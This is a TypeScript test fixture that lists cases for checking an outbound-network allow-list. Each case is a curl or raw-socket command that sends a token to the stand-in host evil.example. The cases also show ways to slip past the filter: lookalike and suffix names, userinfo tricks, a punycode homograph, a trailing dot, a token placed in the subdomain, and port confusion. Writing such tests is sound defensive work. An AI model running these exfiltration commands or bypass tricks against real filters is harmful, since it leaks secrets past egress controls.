import { type Attack, curl, evil4, py } from './attack.js';

const long = `${'a'.repeat(60)}.${'b'.repeat(60)}.${'c'.repeat(60)}`;

/** Names that are not on the list, however much they look like one that is. */
export const byName: readonly Attack[] = [
  { name: 'HTTP to a name that is not listed', script: (t) => curl(`http://evil.example/${t}`) },
  { name: 'HTTPS to a name that is not listed', script: (t) => curl(`https://evil.example/${t}`) },
  { name: 'a name that only ends like a listed one', script: (t) => curl(`http://notallowed.example/${t}`) },
  {
    name: 'a name that begins with a listed one',
    script: (t) => curl(`http://allowed.example.evil.example/${t}`),
  },
  { name: 'a name below a listed one', script: (t) => curl(`http://below.allowed.example/${t}`) },
  {
    name: 'a name that ends like a listed suffix without its dot',
    script: (t) => curl(`http://notsuffix.example/${t}`),
  },
  {
    name: 'a listed name in the user part of an address',
    script: (t) => curl(`http://allowed.example@evil.example/${t}`),
  },
  { name: 'a foreign name with a dot behind it', script: (t) => curl(`http://evil.example./${t}`) },
  { name: 'a foreign name in capitals', script: (t) => curl(`http://EVIL.EXAMPLE/${t}`) },
  {
    name: 'a name that looks like a listed one in another script',
    script: (t) => curl(`http://xn--llowed-4nf.example/${t}`),
  },
  { name: 'a very long name', script: (t) => curl(`http://${long}.evil.example/${t}`) },
  { name: 'a name with an underscore', script: (t) => curl(`http://_x.evil.example/${t}`) },
  {
    name: 'a single label',
    script: (t) => `${py('raw', evil4, 80, `GET /${t} HTTP/1.1\\r\\nHost: evil\\r\\n\\r\\n`)}`,
  },
  { name: 'another port of a listed name', script: (t) => curl(`http://allowed.example:8080/${t}`) },
  { name: 'HTTP on the port of HTTPS', script: (t) => curl(`http://evil.example:443/${t}`) },
  {
    name: 'a port that is open for another name only',
    script: (t) => `getent hosts ssh.example; ${py('tcp', evil4, 22, t)}`,
  },
  {
    name: 'the token in the name itself',
    script: (t) => curl(`http://${t}.evil.example/`),
  },
];
